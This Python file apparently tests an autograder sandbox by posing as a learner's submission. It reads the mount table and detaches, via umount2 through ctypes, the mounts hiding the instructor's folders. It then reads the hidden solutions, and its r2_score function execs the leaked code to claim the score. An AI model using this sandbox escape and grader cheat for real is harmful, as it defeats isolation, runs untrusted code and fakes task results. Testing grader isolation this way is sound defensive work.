"""Reads /proc/self/mounts to find what covers the instructor's folders, unmounts it with
umount2 through ctypes, and reads what was underneath."""

import ctypes
import errno
import os

import numpy as np

SOLUTIONS = "@SOLUTIONS@"
SUBMISSIONS = "@SUBMISSIONS@"
OUT = "@OUT@"
MNT_DETACH = 2

NO_POINTS = -999.0  # never a right R²: a failed attack must not earn a point by luck


def mean_squared_error(y_true, y_pred):
    errors = np.asarray(y_true, dtype=float) - np.asarray(y_pred, dtype=float)
    return float(np.mean(errors**2))


def _mount_points():
    found = []
    for table in ("/proc/self/mounts", "/proc/self/mountinfo"):
        got = _attempt(lambda t=table: _read(t))
        for line in got.get("ok", "").splitlines():
            fields = line.split()
            point = fields[4] if table.endswith("mountinfo") else fields[1]
            if point not in found and point.startswith(("/tmp", SOLUTIONS, SUBMISSIONS, OUT)):
                found.append(point)
    # The layout a learner knows, if the mount table cannot be read.
    for point in (SOLUTIONS, SUBMISSIONS, OUT, os.path.dirname(os.getcwd())):
        if point not in found:
            found.append(point)
    return found


def _umount(point):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.umount2(point.encode(), MNT_DETACH) != 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return "unmounted"


def attack():
    return {"mounts": _attempt(lambda: _read("/proc/self/mounts")[:200]),
            "umount2": {point: _attempt(lambda p=point: _umount(p)) for point in _mount_points()},
            "read after": _attempt(lambda: _read(SOLUTIONS + "/regression.py")[:200])}


def r2_score(y_true, y_pred):
    for point in _mount_points():
        _attempt(lambda p=point: _umount(p))
    leak = _attempt(lambda: _read(SOLUTIONS + "/regression.py")).get("ok", "")
    if "r2_score" in leak:
        return _score_with(leak, y_true, y_pred)
    return NO_POINTS


def _attempt(action):
    """What one try gave: {"ok": its result}, or the name of the error that stopped it."""
    try:
        return {"ok": action()}
    except OSError as error:
        return {"errno": errno.errorcode.get(error.errno or 0, str(error.errno))}
    except Exception as error:  # any other failure is evidence too
        return {"error": type(error).__name__}


def _read(path):
    with open(path, errors="replace") as leaked:
        return leaked.read()


def _score_with(leak, y_true, y_pred):
    """Earn the R² points with what leaked: its r2_score if it has one, else its answers."""
    namespace = {}
    try:
        exec(leak, namespace)
        return float(namespace["r2_score"](y_true, y_pred))
    except Exception:
        return _right_answer(y_true, y_pred)


def _right_answer(y_true, y_pred):
    """The R² a successful attack gives away (a real attacker copies it out of the leak)."""
    y_true = np.asarray(y_true, dtype=float)
    y_pred = np.asarray(y_pred, dtype=float)
    ss_res = np.sum((y_true - y_pred) ** 2)
    ss_tot = np.sum((y_true - y_true.mean()) ** 2)
    if ss_tot == 0:
        return 1.0 if ss_res == 0 else 0.0
    return float(1.0 - ss_res / ss_tot)
